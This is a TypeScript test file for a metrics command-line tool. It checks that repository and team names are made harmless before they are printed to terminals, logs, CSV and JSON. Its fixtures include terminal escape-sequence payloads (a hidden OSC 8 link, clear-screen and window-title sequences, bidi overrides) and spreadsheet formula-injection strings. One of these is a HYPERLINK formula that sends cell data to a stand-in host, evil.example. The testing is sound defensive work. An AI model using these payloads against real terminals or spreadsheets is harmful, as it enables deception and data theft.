/**
 * Text from GitHub (repository names, deployment environments) and from configuration (team names) is
 * printed by the analyst's commands. On a terminal, control characters in it must show as visible escapes,
 * never act (clear the screen, set the window title, plant a hidden link); in CSV, a text cell that a
 * spreadsheet would run as a formula starts with a single quote, while numbers stay numbers.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvCell } from "../cli/csv-cell.ts";
import { createLogger } from "../core/logger.ts";
import { renderProgressLines } from "../extractors/progress/progress-lines.ts";
import { ProgressState } from "../extractors/progress/progress-state.ts";
import {
  createFixtureWarehouse,
  type FixturePullRequest,
  fixturePullRequests,
} from "./fixtures/metrics-warehouse.ts";

const ROOT = resolve(import.meta.dirname, "..");

const ESC = "\u001b";
const BEL = "\u0007";
/** OSC 8: a hyperlink whose target the reader does not see. */
const HIDDEN_LINK = `${ESC}]8;;https://evil.example/${BEL}docs${ESC}]8;;${BEL}`;
/** CSI 2J: clear the screen, then home the cursor. */
const CLEAR_SCREEN = `${ESC}[2J${ESC}[Hplatform`;
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
/** U+202E turns the rest of the line around; U+009B is the one-byte CSI of C1. */
const BIDI = "\u202eresu\u009b2J";
const PLUS = "+1+cmd";
const AT = "@SUM(A1)";
const MINUS = "-2+3";
const TEAMS = [HIDDEN_LINK, CLEAR_SCREEN, FORMULA, BIDI, PLUS, AT, MINUS];
/** OSC 0: sets the window title. */
const REPOSITORY = `acme/${ESC}]0;pwned${BEL}api`;

/** Any character a terminal acts on, other than the newline that ends a line. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this test looks for.
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;

let dir: string;
let warehousePath: string;
let metricsPath: string;
let prs: FixturePullRequest[];

/** A metric whose values are negative: deletions minus additions, summed per team and month. */
const NET_LINES = `
  - name: net_lines_removed
    label: Net lines removed
    description: Deletions minus additions of merged pull requests.
    owner: devex
    type: simple
    model: fct_pull_requests
    agg: sum
    expr: deletions - additions
    filter: is_merged
    time_dimension: merged_at
    unit: count
    direction: neutral
    dimensions: [team, repository]
`;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "ys-untrusted-"));
  warehousePath = join(dir, "warehouse.duckdb");
  prs = fixturePullRequests(TEAMS, 70).map((pr) =>
    pr.repository === "acme/api" ? { ...pr, repository: REPOSITORY } : pr,
  );
  await createFixtureWarehouse(warehousePath, prs);
  const shipped = readFileSync(join(ROOT, "metrics.yaml"), "utf8");
  metricsPath = join(dir, "metrics.yaml");
  // The fixture has seven authors: the privacy floor is lowered so that every team's rows show.
  writeFileSync(
    metricsPath,
    `${shipped.replace("privacy_floor: 5\n", "privacy_floor: 1\n").trimEnd()}\n${NET_LINES}`,
  );
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

function yardstick(args: string[]) {
  const result = spawnSync(process.execPath, [join(ROOT, "bin", "yardstick.js"), ...args], {
    cwd: dir,
    env: { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? "" },
    encoding: "utf8",
    timeout: 120_000,
  });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

/** Fails naming the first character a terminal would act on, with the text around it (JSON-escaped). */
function expectInert(text: string): void {
  const found = CONTROL.exec(text);
  if (!found) return;
  const code = found[0].codePointAt(0)!.toString(16).padStart(4, "0");
  expect.fail(
    `raw U+${code} at ${found.index}: ${JSON.stringify(text.slice(found.index - 20, found.index + 40))}`,
  );
}

/** RFC 4180 rows, written here rather than taken from the code under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

describe("metrics query, compare and diff on hostile names", () => {
  it("prints a table in which control characters show as visible escapes", () => {
    const { code, stdout, stderr } = yardstick([
      "metrics",
      "query",
      "merged_pull_requests",
      "--by",
      "team,repository",
      "--grain",
      "month",
      "--metrics",
      metricsPath,
      "--warehouse",
      warehousePath,
    ]);
    expect(code, stderr).toBe(0);
    expectInert(stdout + stderr);
    // Every name is still there, readable: ESC as \x1b, BEL as \x07, U+202E as \u202e, U+009B as \x9b.
    expect(stdout).toContain("\\x1b]8;;https://evil.example/\\x07docs\\x1b]8;;\\x07");
    expect(stdout).toContain("\\x1b[2J\\x1b[Hplatform");
    expect(stdout).toContain("\\u202eresu\\x9b2J");
    expect(stdout).toContain("acme/\\x1b]0;pwned\\x07api");
    expect(stdout).toContain(FORMULA);
  });

  it("prints CSV with formula cells neutralised by a leading quote, numbers (negative too) as numbers", () => {
    const { code, stdout, stderr } = yardstick([
      "metrics",
      "query",
      "net_lines_removed",
      "--by",
      "team",
      "--grain",
      "month",
      "--format",
      "csv",
      "--metrics",
      metricsPath,
      "--warehouse",
      warehousePath,
    ]);
    expect(code, stderr).toBe(0);
    expectInert(stdout.replace(/\r\n/g, "\n"));
    const [header, ...rows] = parseCsv(stdout);
    const col = (name: string) => header!.indexOf(name);
    // What each team's cell must read: a formula gets one leading quote; control characters become escapes.
    const expectedCell = new Map([
      [FORMULA, `'${FORMULA}`],
      [PLUS, `'${PLUS}`],
      [AT, `'${AT}`],
      [MINUS, `'${MINUS}`],
      [HIDDEN_LINK, "\\x1b]8;;https://evil.example/\\x07docs\\x1b]8;;\\x07"],
      [CLEAR_SCREEN, "\\x1b[2J\\x1b[Hplatform"],
      [BIDI, "\\u202eresu\\x9b2J"],
    ]);
    // Expected values from the fixture rows, in plain JS.
    const expected = new Map<string, number>();
    for (const pr of prs) {
      if (!pr.is_merged) continue;
      const key = `${pr.merged_at!.slice(0, 7)}-01|${expectedCell.get(pr.team)}`;
      expected.set(key, (expected.get(key) ?? 0) + pr.deletions - pr.additions);
    }
    expect([...expected.values()].some((v) => v < 0)).toBe(true);
    const seen = new Map(rows.map((r) => [`${r[col("period")]}|${r[col("team")]}`, r[col("value")]]));
    expect(new Set(seen.keys())).toEqual(new Set(expected.keys()));
    for (const [key, value] of expected) expect(seen.get(key), key).toBe(String(value));
    // Raw, a negative value is written bare (no quote, no leading apostrophe) so spreadsheets read a number.
    const negative = [...expected.values()].find((v) => v < 0)!;
    expect(stdout).toMatch(new RegExp(`,${negative},`));
  });

  it("keeps the exact names in JSON, escaped only as JSON escapes them", () => {
    const { code, stdout, stderr } = yardstick([
      "metrics",
      "query",
      "merged_pull_requests",
      "--by",
      "team",
      "--grain",
      "month",
      "--format",
      "json",
      "--metrics",
      metricsPath,
      "--warehouse",
      warehousePath,
    ]);
    expect(code, stderr).toBe(0);
    const teams = new Set(
      stdout
        .trim()
        .split("\n")
        .map((line) => (JSON.parse(line) as { team: string }).team),
    );
    expect(teams).toEqual(new Set(TEAMS));
  });

  it("prints the comparison table with the same escapes", () => {
    const { code, stdout, stderr } = yardstick([
      "metrics",
      "compare",
      "merged_pull_requests",
      "--by",
      "team",
      "--grain",
      "quarter",
      "--no-size",
      "--metrics",
      metricsPath,
      "--warehouse",
      warehousePath,
    ]);
    expect(code, stderr).toBe(0);
    expectInert(stdout + stderr);
    expect(stdout).toContain("\\x1b[2J\\x1b[Hplatform");
  });

  it("prints the diff of values by team with the same escapes", () => {
    const before = join(dir, "before.yaml");
    const text = readFileSync(metricsPath, "utf8");
    const changed = text.replace(
      "    filter: is_merged\n    time_dimension: merged_at\n    unit: count\n    direction: neutral\n    dimensions: [team, repository]",
      "    filter: is_merged and additions > 10\n    time_dimension: merged_at\n    unit: count\n    direction: neutral\n    dimensions: [team, repository]",
    );
    expect(changed).not.toBe(text);
    writeFileSync(before, changed);
    const { code, stdout, stderr } = yardstick([
      "metrics",
      "diff",
      before,
      "--metrics",
      metricsPath,
      "--warehouse",
      warehousePath,
      "--month",
      "2024-03",
    ]);
    expect(code, stderr).toBe(0);
    expect(stdout).toContain("net_lines_removed");
    expectInert(stdout + stderr);
    expect(stdout).toContain("\\x1b]8;;https://evil.example/\\x07docs\\x1b]8;;\\x07");
  });

  it("lists a metric whose label carries escape sequences, escaped", () => {
    const labelled = join(dir, "labelled.yaml");
    writeFileSync(
      labelled,
      readFileSync(metricsPath, "utf8").replace(
        "label: Net lines removed",
        'label: "Net \\e]0;pwned\\a lines \\e[2J"',
      ),
    );
    const { code, stdout, stderr } = yardstick(["metrics", "list", "--metrics", labelled]);
    expect(code, stderr).toBe(0);
    expectInert(stdout + stderr);
    expect(stdout).toContain("Net \\x1b]0;pwned\\x07 lines \\x1b[2J");
  });

  it("escapes a hostile name in an error message", () => {
    const { code, stdout, stderr } = yardstick([
      "metrics",
      "query",
      `no_such${CLEAR_SCREEN}`,
      "--metrics",
      metricsPath,
      "--warehouse",
      warehousePath,
    ]);
    expect(code).toBe(2);
    expectInert(stdout + stderr);
    expect(stderr).toContain("no_such\\x1b[2J");
  });
});

describe("text log lines", () => {
  it("escape control characters in the message and in field values", () => {
    const lines: string[] = [];
    const logger = createLogger({ write: (line) => lines.push(line) });
    logger.warn(`extract: pull_requests ${REPOSITORY}: 3 rows`, {
      repository: REPOSITORY,
      environment: BIDI,
    });
    expect(lines).toHaveLength(1);
    expectInert(lines[0]!);
    expect(lines[0]).toContain("acme/\\x1b]0;pwned\\x07api: 3 rows");
    expect(lines[0]).toContain("environment=\\u202eresu\\x9b2J");
  });

  it("stay exact in JSON, where JSON escapes them", () => {
    const lines: string[] = [];
    createLogger({ format: "json", write: (line) => lines.push(line) }).info("x", { repository: REPOSITORY });
    expect((JSON.parse(lines[0]!) as { repository: string }).repository).toBe(REPOSITORY);
  });
});

describe("the live extract display", () => {
  it("shows the repository being read with its control characters escaped", () => {
    const state = new ProgressState(0);
    state.streamStarted("pull_requests", 2, 0);
    state.partitionStarted("pull_requests", REPOSITORY, 0);
    const lines = renderProgressLines(state, 1_000, 200);
    expectInert(lines.join("\n"));
    expect(lines.join("\n")).toContain("acme/\\x1b]0;pwned\\x07api");
  });
});

describe("a CSV cell", () => {
  it("neutralises each character a spreadsheet starts a formula with, and only in text", () => {
    expect(["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "a=1", "1-2"].map(csvCell)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@A1",
      "'\\x09=1",
      "'\\x0d=1",
      "a=1",
      "1-2",
    ]);
    expect([-1, -0.25, 3, 0, null, true].map(csvCell)).toEqual(["-1", "-0.25", "3", "0", "", "true"]);
    expect(csvCell('=A1,"x"')).toBe('"\'=A1,""x"""');
  });
});
